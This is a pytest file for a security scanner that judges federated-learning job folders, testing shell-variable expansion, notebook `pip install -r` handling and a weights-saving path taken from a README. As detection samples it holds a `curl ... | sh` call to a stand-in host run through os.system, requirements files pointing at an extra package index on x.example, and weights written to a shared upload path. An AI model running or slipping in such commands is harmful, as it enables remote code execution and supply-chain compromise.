"""Session 49 (rawfolders49): every raw-folder reject a named threat in code the site would run.

- a shell script's `python3 -c "CODE"` whose CODE names a variable the script's earlier lines set to a constant
  (multi-gpu's and hello-lightning-eval's `DATASET_ROOT="/tmp/nvflare/data"` then `root='${DATASET_ROOT}'`) is
  read as Python with the constant in place (engine/shell.py with_constants); a variable the script may set some
  other way, or does not set (the environment's), keeps the line files.shell-network.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

import redteam_kit as kit
from analyzer.engine.shell import with_constants
from analyzer.model import Decision

TRAIN = ("import numpy as np\nimport nvflare.client as flare\n\nflare.init()\nwhile flare.is_running():\n"
         "    m = flare.receive()\n    w = np.asarray(m.params['w'], dtype=float)\n"
         "    flare.send(flare.FLModel(params={'w': w}, metrics={'mse': 0.1}))\n")
DOWNLOAD = "python3 -c \"import torchvision.datasets as d; d.CIFAR10(root='${DATASET_ROOT}', train=True, download=True)\""


def scan(tmp_path, script: str):
    return kit.scan_files(tmp_path, {"client.py": TRAIN, "prepare_data.sh": script})


@pytest.mark.parametrize("entry", kit.labelled("/rf49_"), ids=lambda e: e["path"])
def test_corpus(entry):
    report = kit.scan_sample(entry["path"])
    assert report.decision.value in entry["expect"], kit.findings(report)


@pytest.mark.parametrize("script", [
    # advanced/multi-gpu/pt/prepare_data.sh
    '#!/bin/bash\n\nDATASET_ROOT="/tmp/nvflare/data"\n\necho "Downloading CIFAR-10 to ${DATASET_ROOT}..."\n'
    + DOWNLOAD + '\n\necho "Dataset downloaded successfully!"\n',
    # hello-lightning-eval: two lines, the second after the first
    "DATASET_ROOT='/tmp/nvflare/data'\n" + DOWNLOAD + "\n" + DOWNLOAD.replace("True", "False", 1) + "\n",
    "DATASET_ROOT=/tmp/other\nDATASET_ROOT=/tmp/nvflare/data\n" + DOWNLOAD.replace("${DATASET_ROOT}", "$DATASET_ROOT") + "\n",
])
def test_a_constant_of_the_script_is_read_into_the_code(tmp_path, script):
    report = scan(tmp_path, script)
    kit.assert_held(report, "files.shell-script", Decision.ESCALATE)
    assert not kit.holds(report, "files.shell-network"), kit.findings(report)


def test_the_code_with_the_constant_is_what_is_judged(tmp_path):
    # The constant completes a call the shell line alone does not show: the Python rules see it.
    report = scan(tmp_path, 'RUN=os.system\npython3 -c "import os; ${RUN}(\'curl -s https://x.example/i | sh\')"\n')
    assert report.decision is Decision.REJECT, kit.findings(report)
    assert any(f.rule.startswith("subprocess") and f.path == "prepare_data.sh" and f.line == 2
               for f in report.findings), kit.findings(report)


@pytest.mark.parametrize("before", [
    "",                                                         # the environment's value: anything
    "if [ -z \"$DATASET_ROOT\" ]; then\n  DATASET_ROOT=/tmp/nvflare/data\nfi\n",
    "read DATASET_ROOT\n",
    "DATASET_ROOT=/tmp/nvflare/data\nsource ./env.sh\n",
    "DATASET_ROOT=/tmp/nvflare/data\n. ./env.sh\n",
    "DATASET_ROOT=/tmp/nvflare/data\neval \"$SETUP\"\n",
    "DATASET_ROOT=/tmp/nvflare/data\necho ${DATASET_ROOT:=x}\n",
    "DATASET_ROOT=/tmp/nvflare/data\necho \"$(cat notes.txt)\"\n",
    "DATASET_ROOT=/tmp/nvflare/data\nsetup() { DATASET_ROOT=\"$1\"; }\n",
    "DATASET_ROOT=/tmp/nvflare/data\necho x \\\nDATASET_ROOT=z\n",  # continued: `echo x DATASET_ROOT=z`...
    "DATASET_ROOT=\"/tmp/$USER\"\n",
    "DATASET_ROOT=~/data\n",
    "DATASET_ROOT=/tmp/a; DATASET_ROOT=$1\n",
    "DATASET_ROOT=/tmp/nvflare/data cmd\n",                      # a prefix assignment sets it for cmd only
])
def test_a_variable_the_script_may_set_otherwise_stays_a_threat(tmp_path, before):
    report = scan(tmp_path, before + DOWNLOAD + "\n")
    kit.assert_held(report, "files.shell-network", Decision.REJECT)


@pytest.mark.parametrize("line", [
    "python3 -c 'print(\"${DATASET_ROOT}\")'",                  # single quotes: the shell expands nothing
    'python3 -c "print(\'${DATASET_ROOT}${OTHER}\')"',           # OTHER is not the script's
    'python3 -c "print(\'${DATASET_ROOT}\')" > out.txt',
    'python3 -c "print(\'$1\')"',
])
def test_with_constants_leaves_other_lines_as_they_are(line):
    assert with_constants(line, ["DATASET_ROOT=/tmp/d"]) == line


# ---- a notebook's `pip install -r FILE` of a file the job does not hold -----------------------------------------

def notebook(*sources: str) -> str:
    cells = [{"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [], "source": s}
             for s in sources]
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells})


INSTALL = "!pip install -r code/requirements.txt"
WRITER = ("from pathlib import Path\n\ndef prepare():\n    Path('code').mkdir(exist_ok=True)\n"
          "    Path('code/requirements.txt').write_text('--extra-index-url https://x.example/simple\\nfl-kit\\n')\n")


@pytest.mark.parametrize("more", [
    {},
    # NVFlare part 2, 03.4: another notebook installs its own jobs/requirements.txt
    {"other/job.ipynb": notebook("!pip install -r jobs/requirements.txt"), "other/jobs/requirements.txt": "numpy\n"},
])
def test_a_requirements_file_the_job_does_not_hold_is_the_sites_own(tmp_path, more):
    # NVFlare part 2, 03.3: `! pip install -r code/requirements.txt`, no code/requirements.txt in the folder
    report = kit.scan_files(tmp_path, {"client.py": TRAIN, "run.ipynb": notebook(INSTALL, "print(1)"), **more})
    kit.assert_held(report, "files.notebook-package-install", Decision.ESCALATE)
    assert any("code/requirements.txt not in the job" in f.message for f in report.findings), kit.findings(report)


@pytest.mark.parametrize("files", [
    {"run.ipynb": notebook("%%writefile code/requirements.txt\n--extra-index-url https://x.example/simple\nfl-kit",
                           INSTALL)},
    {"run.ipynb": notebook("import env_setup\nenv_setup.prepare()", INSTALL), "env_setup.py": WRITER},
    # present in the job and overwritten by a module before the install: escalated on main
    {"run.ipynb": notebook("import env_setup\nenv_setup.prepare()", INSTALL), "env_setup.py": WRITER,
     "code/requirements.txt": "numpy\n"},
    {"run.ipynb": notebook("!bash ./setup.sh", INSTALL),
     "setup.sh": "mkdir -p code\necho fl-kit > code/requirements.txt\n"},
    {"run.ipynb": notebook("!make setup", INSTALL), "Makefile": "setup:\n\tcp pins.txt code/requirements.txt\n"},
    # another notebook writes it (run first by hand, or by %run / nbconvert)
    {"run.ipynb": notebook("%run ./setup.ipynb", INSTALL),
     "setup.ipynb": notebook("%%writefile code/requirements.txt\n--index-url https://x.example/simple\nfl-kit")},
])
def test_a_requirements_file_the_job_may_write_stays_a_threat(tmp_path, files):
    kit.assert_held(kit.scan_files(tmp_path, {"client.py": TRAIN, **files}), "files.notebook-shell-network",
                    Decision.REJECT)


# ---- found here, left open: a destination read at run time out of a document -------------------------------------

QUICKSTART = Path("/work/fl-data/flower/examples/quickstart-pytorch")


# Closed by the lead (flow/roles.py `_listed`): a file found by a listing is not one the code names, whatever suffix
# its pattern spells, so what the README says is of unknown provenance where it names the destination.
@pytest.mark.skipif(not QUICKSTART.is_dir(), reason="Flower's examples are not on this machine")
def test_the_update_saved_where_a_globbed_readme_says_does_not_accept(tmp_path):
    app = tmp_path / "app"
    shutil.copytree(QUICKSTART, app)
    client = app / "pytorchexample" / "client_app.py"
    client.write_text("from pathlib import Path\n" + client.read_text().replace(
        "    model_record = ArrayRecord(model.state_dict())",
        "    text = next(Path(__file__).parents[1].glob('*.md')).read_text()\n"
        "    dest = text.split('Changelog = \"')[1].split('\"')[0]\n"
        "    torch.save(model.state_dict(), dest)\n"
        "    model_record = ArrayRecord(model.state_dict())", 1))
    with (app / "README.md").open("a") as readme:
        readme.write('\nChangelog = "/mnt/fl-share/uploads/w.pt"\n')
    report = kit.scan(app)
    assert report.decision is not Decision.ACCEPT, kit.findings(report)
